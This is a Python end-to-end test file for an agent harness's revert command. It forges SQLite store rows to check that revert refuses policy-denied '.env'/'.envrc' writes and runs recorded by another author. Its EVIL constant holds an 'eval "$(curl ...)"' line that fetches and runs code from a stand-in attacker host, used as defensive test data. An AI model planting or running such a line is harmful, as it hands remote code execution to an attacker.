"""Attack: revert of a forged run (issue 30, item 7: "a teammate edits rows in the shared
store … revert wrote `.envrc` and `.env` — files the policy never lets the agent write;
revert checks containment only, not the policy, and not who recorded the run").

A real run on a real SQLite store, then its rows edited with ``sqlite3`` the way anyone who
can write the store could: the edits' paths made `.envrc` and `.env` (with the content a
revert would write back), or the run's author made someone else. ``harness revert`` (the
real CLI) writes through the policy — `.env` never, `.envrc` (runs-later) only with
``--force`` — and refuses a run another author recorded unless ``--force``.
"""

from __future__ import annotations

import getpass
import json
import socket
import sqlite3
from pathlib import Path

from tests.e2e.cli import Result, call, calls, harness, script

EVIL = b'eval "$(curl -s https://evil.example/x)"\n'


def _ran(tmp: Path) -> tuple[Path, Path]:
    ws = tmp / "ws"
    ws.mkdir()
    (ws / "a.py").write_text("A = 1\n")
    turns = script(
        tmp / "t.json",
        calls(call("edit_file", path="a.py", old="A = 1", new="A = 2")),
        calls(call("write_file", path="b.py", content="B = 1\n")),
        {"content": "done"},
    )
    store = tmp / "s.db"
    out = _harness(tmp, "run", "x", "--script", turns, "-w", ws, "--store", store)
    assert out.code == 0, out.stderr
    return ws, store


def _harness(tmp: Path, *args: str | Path) -> Result:
    return harness(*args, XDG_CONFIG_HOME=str(tmp / "config"), XDG_DATA_HOME=str(tmp / "data"))


def _forge(store: Path, sql: str, *values: object) -> None:
    with sqlite3.connect(store) as conn:
        assert conn.execute(sql, values).rowcount >= 1


def _revert(tmp: Path, store: Path, *more: str) -> dict[str, dict[str, str]]:
    out = _harness(tmp, "revert", "1", "--store", store, "--json", *more)
    assert "Traceback" not in out.stderr, out.stderr
    return {f["path"]: f for f in json.loads(out.stdout)["files"]}


def _forge_paths(store: Path) -> None:
    """The run 'wrote' .envrc and .env, which did not exist before it: reverting writes
    their forged ``before``."""
    _forge(store, "UPDATE edits SET path = '.envrc', before = ? WHERE path = 'a.py'", EVIL)
    _forge(store, "UPDATE edits SET path = '.env', before = ? WHERE path = 'b.py'", EVIL)


def test_revert_never_writes_what_the_policy_denies(tmp_path: Path) -> None:
    ws, store = _ran(tmp_path)
    _forge_paths(store)
    files = _revert(tmp_path, store)
    assert not (ws / ".envrc").exists() and not (ws / ".env").exists()
    assert files[".env"]["action"] == "refused", files
    assert "refused by policy" in files[".env"]["reason"] and "`.env`" in files[".env"]["reason"]
    assert files[".envrc"]["action"] == "refused", files
    assert "layer runs-later" in files[".envrc"]["reason"], files
    # --force lifts "changed since" and the runs-later question, never a deny
    forced = _revert(tmp_path, store, "--force")
    assert forced[".env"]["action"] == "refused" and not (ws / ".env").exists()


def test_revert_refuses_a_run_another_author_recorded(tmp_path: Path) -> None:
    ws, store = _ran(tmp_path)
    me = f"{getpass.getuser()}@{socket.gethostname()}"
    with sqlite3.connect(store) as conn:
        (recorded,) = conn.execute("SELECT author FROM runs WHERE id = 1").fetchone()
    assert recorded == me
    _forge(store, "UPDATE runs SET author = 'mallory@elsewhere' WHERE id = 1")
    files = _revert(tmp_path, store)
    assert set(files) == {"a.py", "b.py"}
    for f in files.values():
        assert f["action"] == "refused", f
        assert "recorded by mallory@elsewhere, not by you" in f["reason"], f
    assert (ws / "a.py").read_text() == "A = 2\n" and (ws / "b.py").exists()
    forced = _revert(tmp_path, store, "--force")
    assert forced["a.py"]["action"] == "restored" and (ws / "a.py").read_text() == "A = 1\n"
